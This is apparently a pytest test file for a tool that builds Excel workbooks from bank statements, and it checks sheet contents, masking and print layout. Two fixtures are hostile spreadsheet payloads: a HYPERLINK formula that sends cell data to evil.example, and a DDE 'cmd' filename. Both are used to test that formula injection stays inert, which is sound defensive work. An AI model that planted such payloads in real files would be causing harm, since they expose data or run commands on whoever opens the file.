"""The statement workbook, read back from its XML parts (openpyxl is not a dependency)."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal
from xml.etree import ElementTree

import pytest

from touchstone.statements.categorise import categorise
from touchstone.statements.domain import (
    PageReport,
    StatementMeta,
    StatementStatus,
    Transaction,
    ValidationIssue,
)
from touchstone.statements.workbook import (
    SHEETS,
    ContinuityIssue,
    StatementInput,
    WorkbookInput,
    build_workbook,
)

NS = {
    "m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
    "r": "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
}
REL = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
GENERATED = dt.datetime(2024, 7, 1, 9, 30, tzinfo=dt.UTC)


class Book:
    """Cell values of a built workbook by sheet name and A1 reference."""

    def __init__(self, data: bytes) -> None:
        self.zip = zipfile.ZipFile(io.BytesIO(data))
        self.names = [
            s.get("name", "") for s in self.xml("xl/workbook.xml").iterfind("m:sheets/m:sheet", NS)
        ]
        strings = self.xml("xl/sharedStrings.xml") if self._has("xl/sharedStrings.xml") else None
        self.strings = (
            []
            if strings is None
            else ["".join(si.itertext()) for si in strings.iterfind("m:si", NS)]
        )

    def _has(self, part: str) -> bool:
        return part in self.zip.namelist()

    def xml(self, part: str) -> ElementTree.Element:
        return ElementTree.fromstring(self.zip.read(part))  # noqa: S314 (our own output)

    def sheet_xml(self, name: str) -> ElementTree.Element:
        rels = self.xml("xl/_rels/workbook.xml.rels")
        targets = {r.get("Id"): r.get("Target") for r in rels}
        for sheet in self.xml("xl/workbook.xml").iterfind("m:sheets/m:sheet", NS):
            if sheet.get("name") == name:
                return self.xml(f"xl/{targets[sheet.get(REL)]}")
        raise KeyError(name)

    def cells(self, name: str) -> dict[str, str | float]:
        values: dict[str, str | float] = {}
        for cell in self.sheet_xml(name).iterfind(".//m:sheetData/m:row/m:c", NS):
            assert cell.find("m:f", NS) is None, "the workbook must hold no formula"
            value = cell.findtext("m:v", namespaces=NS)
            if value is None:
                continue
            ref = cell.get("r", "")
            values[ref] = self.strings[int(value)] if cell.get("t") == "s" else float(value)
        return values

    def column(self, name: str, letter: str) -> list[str | float]:
        """Values of one column below the header, in row order."""
        cells = self.cells(name)
        rows = sorted(
            int(ref[len(letter) :]) for ref in cells if re.fullmatch(rf"{letter}\d+", ref)
        )
        return [cells[f"{letter}{row}"] for row in rows][1:]


def excel_day(day: dt.date) -> float:
    return float((day - dt.date(1899, 12, 30)).days)


def statement(
    transactions: list[Transaction], *, filename: str = "hdfc-march.pdf", **meta: object
) -> StatementInput:
    fields: dict[str, object] = {
        "bank_name": "HDFC Bank",
        "holder_name": "Asha Rao",
        "account_number_masked": "XXXX4321",
        "currency": "INR",
        "period_start": dt.date(2024, 1, 1),
        "period_end": dt.date(2024, 6, 30),
        "opening_balance": Decimal("1000.00"),
        "closing_balance": Decimal("90000.00"),
        **meta,
    }
    return StatementInput(
        filename=filename,
        meta=StatementMeta(**fields),  # type: ignore[arg-type]
        status=StatementStatus.REVIEW,
        transactions=categorise(transactions),
        pages=[
            PageReport(page=1, strategy="A", rows=len(transactions)),
            PageReport(
                page=2,
                strategy=None,
                rejected={"A": "no ruling lines", "E": "OCR confidence 0.41"},
                flagged=True,
            ),
        ],
        issues=[ValidationIssue(row=1, message="running balance off by 10.00")],
    )


def sample_rows() -> list[Transaction]:
    rows: list[tuple[dt.date, str, str]] = []
    for month in range(1, 7):
        rows.append(
            (dt.date(2024, month, 1), "NEFT-HDFCN1234567-ACME CORP PVT LTD-SALARY", "85000")
        )
        rows.append((dt.date(2024, month, 3), "SO LANDLORD J BROWN RENT", "-22000"))
    rows += [
        (dt.date(2024, 2, 10), "ATM WDL 12345 MG ROAD", "-5000"),
        (dt.date(2024, 2, 11), "CHQ RET INSUFFICIENT FUNDS 000123", "-5000"),
        (dt.date(2024, 2, 12), "SMS ALERT CHARGES", "-17.70"),
        (dt.date(2024, 2, 13), "NACH-DR-BAJAJ FINANCE LTD-ABCD1234567", "-12500"),
        (dt.date(2024, 2, 14), INJECTION, "-1.00"),
        (dt.date(2024, 2, 15), "@SUM(1+1)", "-2.00"),
    ]
    rows.sort()
    balance = Decimal(1000)
    out = []
    for row, (day, description, amount) in enumerate(rows):
        balance += Decimal(amount)
        out.append(Transaction(day, description, Decimal(amount), balance, 1, row))
    return out


@pytest.fixture(scope="module")
def book() -> Book:
    report = WorkbookInput(
        batch_label="Asha Rao: H1 2024",
        generated_at=GENERATED,
        statements=[statement(sample_rows())],
        continuity_issues=[
            ContinuityIssue("closing 90,000.00 is not the next opening 89,000.00", ("a", "b"))
        ],
    )
    return Book(build_workbook(report))


def test_every_sheet_is_there_in_order(book: Book) -> None:
    assert book.names == list(SHEETS)
    assert len(book.names) >= 15


def test_summary_has_the_statement_figures(book: Book) -> None:
    cells = book.cells("Summary")
    assert cells["A2"] == "Batch: Asha Rao: H1 2024"
    header = {cells[f"{c}5"]: c for c in "ABCDEFGHIJKLMNOPQRS"}
    row = {title: cells.get(f"{col}6") for title, col in header.items()}
    assert row["Bank"] == "HDFC Bank"
    assert row["Account"] == "XXXX4321"
    assert row["Period start"] == excel_day(dt.date(2024, 1, 1))
    assert row["Total credits"] == 6 * 85000
    assert row["Total debits"] == pytest.approx(6 * 22000 + 5000 + 5000 + 17.70 + 12500 + 3)
    assert (row["Transactions"], row["Recurring"], row["Status"]) == (18, 12, "review")
    assert (row["Flagged pages"], row["Issues"]) == (1, 1)


def test_transactions_sheet_has_every_row_with_its_category(book: Book) -> None:
    assert len(book.column("Transactions", "A")) == 18
    descriptions = book.column("Transactions", "D")
    categories = book.column("Transactions", "F")
    by_description = dict(zip(descriptions, categories, strict=True))
    assert by_description["CHQ RET INSUFFICIENT FUNDS 000123"] == "returned"
    assert by_description["SO LANDLORD J BROWN RENT"] == "rent"
    assert book.column("Transactions", "C")[0] == excel_day(dt.date(2024, 1, 1))
    assert book.column("Transactions", "E")[0] == "ACME CORP PVT LTD"


def test_text_that_looks_like_a_formula_stays_text(book: Book) -> None:
    descriptions = book.column("Transactions", "D")
    assert INJECTION in descriptions
    assert "@SUM(1+1)" in descriptions
    for part in book.zip.namelist():
        if part.startswith("xl/worksheets/"):
            assert b"<f>" not in book.zip.read(part), part
    # and Excel keeps it text even when someone edits the cell
    styles = book.xml("xl/styles.xml").findall("m:cellXfs/m:xf", NS)
    index = book.strings.index(INJECTION)
    (cell,) = [
        c
        for c in book.sheet_xml("Transactions").iterfind(".//m:c", NS)
        if c.get("t") == "s" and c.findtext("m:v", namespaces=NS) == str(index)
    ]
    assert styles[int(cell.get("s", "0"))].get("quotePrefix") == "1"


def test_themed_sheets_pick_their_rows(book: Book) -> None:
    assert book.column("Returned items", "C") == ["CHQ RET INSUFFICIENT FUNDS 000123"]
    assert book.column("Loans and EMI", "C") == ["NACH-DR-BAJAJ FINANCE LTD-ABCD1234567"]
    assert book.column("Cash", "C") == ["ATM WDL 12345 MG ROAD"]
    assert book.column("Fees and charges", "C") == ["SMS ALERT CHARGES"]
    assert len(book.column("Income", "C")) == 6


def test_recurring_monthly_and_categories(book: Book) -> None:
    parties = book.column("Recurring payments", "A")
    assert sorted(parties) == ["ACME CORP PVT LTD", "LANDLORD J BROWN RENT"]
    assert set(book.column("Recurring payments", "E")) == {"monthly"}
    categories = dict(
        zip(book.column("Categories", "B"), book.column("Categories", "D"), strict=True)
    )
    assert categories["rent"] == 6 * 22000
    assert book.column("Monthly", "C") == [85000.0] * 6


def test_issues_and_flagged_pages(book: Book) -> None:
    assert book.column("Validation issues", "E") == [
        "running balance off by 10.00",
        "closing 90,000.00 is not the next opening 89,000.00",
    ]
    assert book.column("Validation issues", "A")[1] == "a / b"
    assert book.column("Flagged pages", "D") == ["A", "E"]
    assert book.column("Flagged pages", "E") == ["no ruling lines", "OCR confidence 0.41"]


def test_daily_balances_follow_the_balance_column(book: Book) -> None:
    balances = book.column("Daily balances", "E")
    assert balances[0] == 86000.0
    assert len(balances) == len(set(book.column("Transactions", "C")))


def test_large_transactions_threshold_is_a_parameter() -> None:
    rows = sample_rows()
    report = WorkbookInput(
        batch_label="b",
        generated_at=GENERATED,
        statements=[statement(rows)],
        large_threshold=Decimal(20000),
    )
    large = Book(build_workbook(report)).column("Large transactions", "F")
    assert sorted(large) == sorted([85000.0] * 6 + [-22000.0] * 6)


def test_full_account_numbers_never_reach_the_file() -> None:
    report = WorkbookInput(
        batch_label="b",
        generated_at=GENERATED,
        statements=[
            statement(
                sample_rows(),
                filename="statement_50100123456789.pdf",
                account_number_masked="50100123456789",
            )
        ],
    )
    data = build_workbook(report)
    book = Book(data)
    assert book.cells("Summary")["D6"] == "XXXX6789"
    assert book.cells("Summary")["A6"] == "statement_XXXXXXXXXX6789.pdf"
    for part in book.zip.namelist():
        assert b"50100123456789" not in book.zip.read(part), part


def test_an_empty_batch_still_builds() -> None:
    book = Book(build_workbook(WorkbookInput(batch_label="empty", generated_at=GENERATED)))
    assert book.names == list(SHEETS)
    assert book.column("Transactions", "A") == []


def test_a_failed_statement_without_rows_builds() -> None:
    failed = StatementInput(
        filename="scan.pdf",
        meta=StatementMeta(),
        status=StatementStatus.FAILED,
        pages=[PageReport(page=1, strategy=None, flagged=True)],
    )
    report = WorkbookInput(batch_label="b", generated_at=GENERATED, statements=[failed])
    book = Book(build_workbook(report))
    assert book.cells("Summary")["S6"] == "failed"
    assert book.column("Flagged pages", "E") == ["no reason recorded"]


def test_recurring_payments_split_over_monthly_statements_are_found() -> None:
    def month_statement(months: tuple[int, ...], filename: str) -> StatementInput:
        rows = [
            Transaction(dt.date(2024, m, 1), "DD GYMBOX LTD", Decimal("-45"), None, 1, n)
            for n, m in enumerate(months)
        ]
        assert not any(item.recurring for item in categorise(rows))  # too few alone
        return statement(rows, filename=filename)

    report = WorkbookInput(
        batch_label="b",
        generated_at=GENERATED,
        statements=[month_statement((1, 2), "jan-feb.pdf"), month_statement((3, 4), "mar-apr.pdf")],
    )
    book = Book(build_workbook(report))
    assert book.column("Recurring payments", "A") == ["GYMBOX LTD"]
    assert book.column("Recurring payments", "H") == [4.0]
    assert book.column("Transactions", "J") == [1.0] * 4  # TRUE, as Excel stores it


def test_names_that_look_like_references_stay_text_in_charts() -> None:
    name = "=cmd|' /C calc'!A0.pdf"
    hostile = statement(sample_rows(), filename=name, currency="X!A1")
    report = WorkbookInput(batch_label="b", generated_at=GENERATED, statements=[hostile])
    book = Book(build_workbook(report))
    assert book.column("Transactions", "A")[0] == name
    charts = [p for p in book.zip.namelist() if p.startswith("xl/charts/")]
    assert len(charts) == 3
    for part in charts:
        references = b"".join(re.findall(rb"<c:f>.*?</c:f>", book.zip.read(part)))
        assert b"cmd|" not in references
        assert b"X!A1" not in references


def test_analysis_sheets_come_first_with_the_figures(book: Book) -> None:
    assert book.names[:3] == ["Analysis", "Analysis by account", "Analysis details"]
    # Salary of 85,000 every month from ACME; February holds the Bajaj EMI of 12,500
    # (FOIR 12,500 / 85,000), the ATM withdrawal (5,000 of 44,520.70 debits) and the
    # returned cheque with the SMS charge of 17.70 the day after.
    assert book.column("Analysis", "C") == [excel_day(dt.date(2024, m, 1)) for m in range(1, 7)]
    assert book.column("Analysis", "J") == [85000.0] * 6
    feb = {c: book.cells("Analysis")[f"{c}3"] for c in "DHILMPQST"}
    assert feb == {
        "D": 29.0,
        "H": 85000.0,
        "I": 44520.7,
        "L": 12500.0,
        "M": 0.1471,
        "P": 5000.0,
        "Q": 0.1123,
        "S": 1.0,
        "T": 17.7,
    }
    account = book.cells("Analysis by account")
    assert (account["A2"], account["F2"], account["G2"], account["I2"]) == (
        "HDFC Bank XXXX4321",
        "ACME CORP PVT LTD",
        6.0,
        1.0,  # regular
    )
    assert book.column("Analysis details", "B")[-3:] == [
        "EMI or loan",
        "Returned item",
        "Return charge",
    ]


def test_every_sheet_prints_one_page_wide(book: Book) -> None:
    for name in book.names:
        sheet = book.sheet_xml(name)
        fit = sheet.find("m:sheetPr/m:pageSetUpPr", NS)
        setup = sheet.find("m:pageSetup", NS)
        assert fit is not None, name
        assert setup is not None, name
        assert fit.get("fitToPage") == "1", name
        # one page wide (the default of fitToWidth), as many long as it takes
        assert (setup.get("fitToWidth", "1"), setup.get("fitToHeight")) == ("1", "0"), name
